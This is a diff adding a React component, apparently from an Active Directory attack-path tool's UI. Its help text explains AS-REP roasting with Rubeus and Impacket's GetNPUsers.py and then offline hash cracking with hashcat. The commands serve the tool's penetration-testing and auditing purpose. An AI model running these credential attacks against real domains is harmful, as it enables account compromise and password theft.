@@ -0,0 +1,36 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Typography } from 'doodle-ui';
+import { FC } from 'react';
+import CodeController from '../CodeController/CodeController';
+
+const Abuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body2'>
+                Request an AS-REP for the account and save its hash in a crackable format with Rubeus:
+            </Typography>
+            <CodeController>{`Rubeus.exe asreproast /user:<target user> /format:hashcat /nowrap`}</CodeController>
+            <Typography variant='body2'>From a Linux host, use GetNPUsers.py from Impacket:</Typography>
+            <CodeController>{`GetNPUsers.py -request -format hashcat '<domain>/<user>:<password>'`}</CodeController>
+            <Typography variant='body2'>Then crack the recovered hash offline with hashcat:</Typography>
+            <CodeController>{`hashcat -m 18200 hash.txt wordlist.txt`}</CodeController>
+        </>
+    );
+};
+
+export default Abuse;